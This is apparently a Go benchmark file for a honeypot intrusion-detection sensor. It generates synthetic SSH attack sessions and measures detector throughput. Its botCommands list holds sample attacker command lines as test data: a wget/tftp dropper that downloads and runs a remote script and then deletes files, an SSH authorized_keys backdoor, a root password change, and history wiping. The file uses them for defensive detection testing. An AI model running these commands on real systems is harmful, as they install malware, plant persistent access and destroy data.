package detect

import (
	"fmt"
	"log/slog"
	"math/rand/v2"
	"syscall"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/config"
	"github.com/lure-sensor/lure/internal/event"
	"github.com/lure-sensor/lure/internal/ips"
)

// botCommands are command lines as bots type them in honeypots, malicious and mundane.
var botCommands = []string{
	"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
	"ls -lh $(which ls)", "crontab -l", "w", "uname -m", "top", "whoami", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
	"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
	`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
	`echo "root:Xk9pass2026"|chpasswd|bash`, "cat /etc/issue", "ps -ef | grep '[Mm]iner'", "echo -e '\\x41\\x4b\\x34\\x37'", "/bin/busybox ECCHI",
	"enable", "system", "shell", "sh", "history -c", "export HISTFILE=/dev/null", "nproc", "ifconfig", "cat /etc/passwd",
}

// mix builds a realistic event stream: sessions from many sources with the Cowrie shape
// (connect, version, kex, failed logins, sometimes a success and commands, close), plus decoy
// connections and logged SYNs from scanners. Proportions follow the UQO Cowrie capture: most
// sessions try one password; about one in sixteen logs in and runs commands.
func mix(n int) []event.Event {
	rng := rand.New(rand.NewPCG(1, 2))
	t := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	var out []event.Event
	id := 0
	add := func(e event.Event) {
		id++
		e.ID = fmt.Sprint("b", id)
		t = t.Add(time.Duration(rng.IntN(2000)) * time.Microsecond)
		e.Time = t
		out = append(out, e)
	}
	for len(out) < n {
		src := fmt.Sprintf("203.0.%d.%d", rng.IntN(32), rng.IntN(256))
		base := event.Event{SrcIP: src, SrcPort: 30000 + rng.IntN(30000), DstIP: "198.18.7.1", DstPort: 22, Protocol: "ssh", Session: fmt.Sprint("s", id)}
		switch r := rng.IntN(100); {
		case r < 10: // a SYN scanner
			for p := range 1 + rng.IntN(8) {
				e := base
				e.EventID, e.DstPort, e.Protocol = event.TCPSyn, 1+rng.IntN(1024)+p, "tcp"
				add(e)
			}
		case r < 15: // a connect scanner on decoys
			for range 1 + rng.IntN(3) {
				e := base
				e.EventID, e.DstPort, e.Protocol = event.TCPConnect, []int{21, 23, 2323, 3306, 8080}[rng.IntN(5)], "tcp"
				add(e)
			}
		default:
			for _, id := range []string{event.SessionConnect, event.ClientVersion, event.ClientKex} {
				e := base
				e.EventID = id
				e.Fields = map[string]any{"version": "SSH-2.0-Go"}
				add(e)
			}
			for range 1 + rng.IntN(3) {
				e := base
				e.EventID = event.LoginFailed
				e.Fields = map[string]any{"username": []string{"root", "admin", "ubuntu", "pi"}[rng.IntN(4)], "password": fmt.Sprint(rng.IntN(500))}
				add(e)
			}
			if rng.IntN(16) == 0 {
				e := base
				e.EventID = event.LoginSuccess
				e.Fields = map[string]any{"username": "root", "password": "root"}
				add(e)
				for range 2 + rng.IntN(8) {
					e := base
					e.EventID = event.CommandInput
					e.Fields = map[string]any{"input": botCommands[rng.IntN(len(botCommands))]}
					add(e)
				}
			}
			e := base
			e.EventID = event.SessionClosed
			add(e)
		}
	}
	return out[:n]
}

// BenchmarkDetectors measures the default detectors (brute force, spraying, port scans, the
// built-in signatures) over the realistic mix, as the engine runs them: one goroutine, every
// detector sees every event. It reports events per second on one core.
func BenchmarkDetectors(b *testing.B) {
	evs := mix(100000)
	counts := map[string]int{}
	for _, e := range evs {
		counts[e.EventID]++
	}
	b.Logf("event mix of %d: %v", len(evs), counts)
	ds, err := New(config.Default().IPS.Detect, slog.New(slog.DiscardHandler))
	if err != nil {
		b.Fatal(err)
	}
	alerts := 0
	raise := func(ips.Alert) { alerts++ }
	cpu0 := cpuTime()
	for i := 0; b.Loop(); i++ {
		e := evs[i%len(evs)]
		// Later laps move forward in time so buckets and windows behave as in a long run.
		e.Time = e.Time.Add(time.Duration(i/len(evs)) * time.Hour)
		for _, d := range ds {
			d.Observe(e, raise)
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	// The machine may be shared: CPU time is what one core spends, whatever else runs.
	b.ReportMetric(float64(b.N)/(cpuTime()-cpu0).Seconds(), "events/cpu-s")
	if alerts == 0 {
		b.Error("the mix raised no alert: it does not exercise the detectors' alert paths")
	}
}

// BenchmarkSignatureCommands measures the built-in rules alone over command lines only, the
// signature detector's worst case.
func BenchmarkSignatureCommands(b *testing.B) {
	ds, err := New(config.IPSDetect{Signatures: config.DefaultIPSDetect().Signatures}, slog.New(slog.DiscardHandler))
	if err != nil {
		b.Fatal(err)
	}
	var evs []event.Event
	for i, c := range botCommands {
		evs = append(evs, event.Event{ID: fmt.Sprint("c", i), EventID: event.CommandInput, SrcIP: "203.0.113.5", DstPort: 22, Protocol: "ssh", Fields: map[string]any{"input": c}})
	}
	raise := func(ips.Alert) {}
	cpu0 := cpuTime()
	for i := 0; b.Loop(); i++ {
		ds[0].Observe(evs[i%len(evs)], raise)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "commands/s")
	b.ReportMetric(float64(b.N)/(cpuTime()-cpu0).Seconds(), "commands/cpu-s")
}

// cpuTime is the process's user and system CPU time so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
